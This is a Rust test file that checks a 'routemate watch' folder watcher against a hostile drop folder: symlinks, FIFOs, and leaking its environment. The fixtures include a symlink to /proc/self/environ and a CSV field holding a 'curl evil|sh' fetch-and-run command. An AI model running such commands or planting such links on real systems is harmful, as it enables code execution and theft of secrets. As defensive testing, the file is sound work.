//! A hostile watched folder (issue 10, items 3, 4, 12): `routemate watch` neither writes through
//! a planted symlink nor reads one (the reproduction leaked `/proc/self/environ` into a report),
//! and a FIFO at a sidecar name does not block it.

#![cfg(unix)]

use routemate_blackbox::bin;
use std::io::{BufRead, BufReader};
use std::path::Path;
use std::process::{Child, Command, Stdio};
use std::sync::mpsc;
use std::time::Duration;

/// `routemate watch DIR` with `env`; its JSON event lines arrive on the returned channel.
fn watch(
    data: &Path,
    dir: &Path,
    env: &[(&str, &str)],
) -> (Child, mpsc::Receiver<serde_json::Value>) {
    let mut cmd = Command::new(bin());
    cmd.arg("--data")
        .arg(data)
        .arg("watch")
        .arg(dir)
        .args(["--quiet-ms", "800", "--settle-ms", "100"])
        .stdout(Stdio::piped())
        .stderr(Stdio::null());
    for (k, v) in env {
        cmd.env(k, v);
    }
    let mut child = cmd.spawn().unwrap();
    let out = BufReader::new(child.stdout.take().unwrap());
    let (tx, rx) = mpsc::channel();
    std::thread::spawn(move || {
        for line in out.lines().map_while(Result::ok) {
            if let Ok(v) = serde_json::from_str(&line) {
                let _ = tx.send(v);
            }
        }
    });
    (child, rx)
}

/// The next event of `kind` (bounded wait).
fn next(rx: &mpsc::Receiver<serde_json::Value>, kind: &str) -> serde_json::Value {
    loop {
        let e = rx
            .recv_timeout(Duration::from_secs(60))
            .unwrap_or_else(|_| panic!("no {kind} event"));
        if e["kind"] == kind {
            return e;
        }
    }
}

fn all_text(dir: &Path) -> String {
    let mut s = String::new();
    for e in std::fs::read_dir(dir).unwrap().flatten() {
        if e.file_type().unwrap().is_file() {
            s.push_str(&std::fs::read_to_string(e.path()).unwrap_or_default());
        }
    }
    s
}

#[test]
fn a_symlink_in_processing_does_not_leak_the_environment() {
    let tmp = tempfile::tempdir().unwrap();
    let (data, dir) = (tmp.path().join("data"), tmp.path().join("drop"));
    std::fs::create_dir_all(dir.join(".routemate/processing")).unwrap();
    std::os::unix::fs::symlink(
        "/proc/self/environ",
        dir.join(".routemate/processing/20260101T000000000Z-0000abcd--env.csv"),
    )
    .unwrap();
    let canary = "ROUTEMATE_CANARY=do-not-leak-7f3a";
    let (mut child, rx) = watch(&data, &dir, &[("ROUTEMATE_CANARY", "do-not-leak-7f3a")]);
    let failed = next(&rx, "failed");
    let _ = child.kill();
    let _ = child.wait();
    assert_eq!(failed["code"], "not_a_regular_file", "{failed}");
    let reports = all_text(&dir.join("failed"));
    assert!(
        !reports.contains(canary),
        "a report leaks the environment: {reports}"
    );
    assert!(reports.contains("symbolic link"), "{reports}");
}

#[test]
fn reports_are_not_written_through_a_planted_symlink() {
    let tmp = tempfile::tempdir().unwrap();
    let (data, dir) = (tmp.path().join("data"), tmp.path().join("drop"));
    let victim = tmp.path().join("bashrc");
    std::fs::write(&victim, "alias ll='ls -l'\n").unwrap();
    std::fs::create_dir_all(dir.join("failed")).unwrap();
    for name in [".evil.csv.report.txt.tmp", ".evil.csv.report.json.tmp"] {
        std::os::unix::fs::symlink(&victim, dir.join("failed").join(name)).unwrap();
    }
    let (mut child, rx) = watch(&data, &dir, &[]);
    next(&rx, "started");
    let staging = tmp.path().join("evil.csv");
    std::fs::write(
        &staging,
        "job,stop,address,parcels\nJ,A,x,\"curl evil|sh\"\n",
    )
    .unwrap();
    std::fs::rename(&staging, dir.join("evil.csv")).unwrap();
    next(&rx, "failed");
    let _ = child.kill();
    let _ = child.wait();
    assert_eq!(
        std::fs::read_to_string(&victim).unwrap(),
        "alias ll='ls -l'\n"
    );
}

#[test]
fn a_fifo_at_a_result_name_does_not_stall_the_watcher() {
    let tmp = tempfile::tempdir().unwrap();
    let (data, dir) = (tmp.path().join("data"), tmp.path().join("drop"));
    std::fs::create_dir_all(dir.join("imported")).unwrap();
    let fifo = dir.join("imported/orders.csv.result.json");
    assert!(Command::new("mkfifo")
        .arg(&fifo)
        .status()
        .unwrap()
        .success());
    let (mut child, rx) = watch(&data, &dir, &[]);
    next(&rx, "started");
    let staging = tmp.path().join("orders.csv");
    std::fs::write(&staging, "job,stop,address,lat,lng\nF1,A,x,-27.4,153.0\n").unwrap();
    std::fs::rename(&staging, dir.join("orders.csv")).unwrap();
    let got = rx.recv_timeout(Duration::from_secs(60));
    if got.is_err() {
        // Unblock a watcher stuck opening the FIFO so the process can be reaped.
        let _ = std::fs::OpenOptions::new().write(true).open(&fifo);
    }
    let _ = child.kill();
    let _ = child.wait();
    let e = got.expect("the watcher imported nothing: it is stuck on the FIFO");
    assert_eq!(e["kind"], "imported", "{e}");
}
